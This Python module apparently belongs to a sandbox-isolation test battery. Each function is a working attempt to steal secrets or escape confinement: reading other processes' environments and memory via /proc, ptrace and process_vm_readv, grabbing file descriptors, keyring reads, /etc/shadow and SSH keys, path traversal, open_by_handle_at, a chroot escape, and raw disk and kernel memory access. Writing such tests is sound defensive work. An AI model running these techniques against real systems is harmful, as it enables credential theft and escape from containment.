"""After secrets: environments and memory of others, files that were not granted, the kernel's own stores."""

import contextlib
import ctypes
import os
import struct
import subprocess
from pathlib import Path

from .attack import At, attack, call, got, libc, loot, others, parents, read


@attack("environment")
def env_own(at: At) -> None:
    loot(dict(os.environ))


@attack("environment")
def env_of_parents(at: At) -> None:
    for pid in parents(at["agent"]):
        read(f"/proc/{pid}/environ")


@attack("environment")
def env_of_everybody(at: At) -> None:
    read(*(p / "environ" for p in others()))


@attack("environment")
def env_of_the_agent(at: At) -> None:
    read(f"/proc/{at['agent']}/environ", f"/proc/{at['agent']}/task/{at['agent']}/environ")


@attack("environment")
def env_of_a_neighbour(at: At) -> None:
    read(f"/proc/{at['neighbour']}/environ")


@attack("processes")
def command_lines(at: At) -> None:
    read(*(p / "cmdline" for p in others()))
    with contextlib.suppress(OSError):
        loot(subprocess.run(["ps", "auxeww"], capture_output=True).stdout)


@attack("processes")
def open_files_of_others(at: At) -> None:
    for folder in others():
        with contextlib.suppress(OSError):
            read(*(handle for handle in (folder / "fd").iterdir() if handle.is_file()))


@attack("processes")
def root_and_cwd_of_others(at: At) -> None:
    for folder in others():
        read(f"{folder}/root{at['secret']}", f"{folder}/cwd/private")


@attack("processes")
def memory_by_proc(at: At) -> None:
    with Path(f"/proc/{at['neighbour']}/mem").open("rb") as memory:
        memory.seek(at["address"])
        loot(memory.read(64))


@attack("processes")
def memory_by_readv(at: At) -> None:
    buffer = ctypes.create_string_buffer(64)
    here, there = (struct.pack("QQ", where, 64) for where in (ctypes.addressof(buffer), at["address"]))
    if call("process_vm_readv", at["neighbour"], here, 1, there, 1, 0) > 0:
        loot(buffer.raw)


@attack("processes")
def memory_by_ptrace(at: At) -> None:
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, at["neighbour"], None, None) == 0:
        os.waitpid(at["neighbour"], 0x40000000)
        loot(b"".join(struct.pack("q", libc.ptrace(1, at["neighbour"], ctypes.c_void_p(at["address"] + 8 * n), None)) for n in range(8)))
        libc.ptrace(17, at["neighbour"], None, None)


@attack("processes")
def descriptor_by_pidfd(at: At) -> None:
    pidfd = call("pidfd_open", at["neighbour"], 0)
    for number in range(3, 12) if pidfd >= 0 else ():
        stolen = call("pidfd_getfd", pidfd, number, 0)
        if stolen >= 0:
            loot(os.pread(stolen, 4096, 0))


@attack("processes")
def descriptors_inherited(at: At) -> None:
    for number in range(3, 512):
        with contextlib.suppress(OSError):
            loot(os.pread(number, 4096, 0))


@attack("keyring")
def key_by_number(at: At) -> None:
    buffer = ctypes.create_string_buffer(256)
    length = call("keyctl", 11, at["key"], buffer, 256)
    if length > 0:
        loot(buffer.raw)


@attack("keyring")
def key_by_name(at: At) -> None:
    buffer = ctypes.create_string_buffer(256)
    for ring in (-3, -4, -5, 0):
        key = (
            call("keyctl", 10, ring, b"user", b"stageflow-battery", 0)
            if ring
            else call("request_key", b"user", b"stageflow-battery", None, 0)
        )
        if key > 0 and call("keyctl", 11, key, buffer, 256) > 0:
            loot(buffer.raw)


@attack("keyring")
def key_left_behind(at: At) -> None:
    if call("add_key", b"user", b"left-by-the-job", b"hostile", 7, -3) > 0:
        got("a key in the session's keyring")


@attack("shared memory")
def sysv_memory(at: At) -> None:
    libc.shmat.restype = ctypes.c_void_p
    segment = call("shmget", at["shm_key"], 0, 0)
    address = libc.shmat(segment, None, 0o10000) if segment >= 0 else None
    if address not in (None, ctypes.c_void_p(-1).value):
        loot(ctypes.string_at(address, 64))


@attack("shared memory")
def posix_memory(at: At) -> None:
    read(f"/dev/shm/{at['posix_shm']}")


@attack("shared memory")
def message_queue(at: At) -> None:
    libc.mq_open.restype = ctypes.c_int
    queue = libc.mq_open(at["queue"].encode(), os.O_WRONLY | os.O_NONBLOCK)
    if queue >= 0 and libc.mq_send(queue, at["name"].encode(), len(at["name"]), 0) == 0:
        got("a message in a queue of the machine")


@attack("reads")
def read_absolute(at: At) -> None:
    read(at["secret"])


@attack("reads")
def read_by_dots(at: At) -> None:
    read("../" * 30 + at["secret"].lstrip("/"), *(f"{'../' * n}home/secret.txt" for n in range(1, 8)))


@attack("reads")
def read_by_link(at: At) -> None:
    Path("results/link").symlink_to(at["secret"])
    read("results/link")


@attack("reads")
def read_by_hard_link(at: At) -> None:
    os.link(at["secret"], "results/hard")
    read("results/hard")


@attack("reads")
def read_by_proc_root(at: At) -> None:
    read(f"/proc/self/root{at['secret']}", f"/proc/1/root{at['secret']}", f"/proc/1/cwd{at['secret']}")


@attack("reads")
def home_folder(at: At) -> None:
    read(*(Path(at["home"]) / name for name in (".netrc", ".ssh/id_ed25519", ".config/keys.json", ".env")))


@attack("reads")
def other_run(at: At) -> None:
    read(at["other_run"] + "/ledger.jsonl", at["other_run"] + "/results/model/cassette.jsonl")
    loot(os.listdir(at["other_run"]))


@attack("reads")
def agents_sources(at: At) -> None:
    read(*at["sources"])


@attack("reads")
def accounts(at: At) -> None:
    read("/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/machine-id", "/etc/ssh/ssh_host_ed25519_key")


@attack("reads")
def old_root(at: At) -> None:
    for start in ("/oldroot", "/newroot", "/old_root", "/.old_root", "/mnt"):
        read(f"{start}{at['secret']}")


@attack("reads")
def by_file_handle(at: At) -> None:
    """What containers once fell to: open by inode number."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    with contextlib.suppress(OSError):
        root = os.open(at["folder"], os.O_RDONLY)
        if call("name_to_handle_at", -100, at["folder"].encode(), handle, ctypes.byref(mount), 0) == 0:
            handle[8:12] = struct.pack("I", os.stat(at["secret"]).st_ino if os.path.exists(at["secret"]) else at["inode"])
            handle[12:16] = bytes(4)
            opened = call("open_by_handle_at", root, handle, os.O_RDONLY)
            if opened >= 0:
                got("a file by its handle")
                loot(os.read(opened, 4096))


@attack("reads")
def out_of_a_chroot(at: At) -> None:
    root = os.open("/", os.O_RDONLY)
    os.mkdir("results/jail")
    os.chroot("results/jail")
    os.fchdir(root)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    read(at["secret"])


@attack("reads")
def disk_device(at: At) -> None:
    device = Path(at["folder"])
    with contextlib.suppress(OSError):
        os.mknod("results/disk", 0o60600, at["device"])
    for path in ("results/disk", *(p for p in Path("/dev").iterdir() if p.is_block_device())):
        with contextlib.suppress(OSError), open(path, "rb") as stream:
            got(f"{path} of {device}: {len(stream.read(512))} bytes of a disk")


@attack("reads")
def kernel_memory(at: At) -> None:
    for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            got(path)


@attack("reads")
def kernel_log(at: At) -> None:
    buffer = ctypes.create_string_buffer(4096)
    if call("syslog", 3, buffer, 4096) > 0:
        got("the kernel's log")
    with contextlib.suppress(OSError):
        got(f"/dev/kmsg {len(os.read(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK), 4096))}")
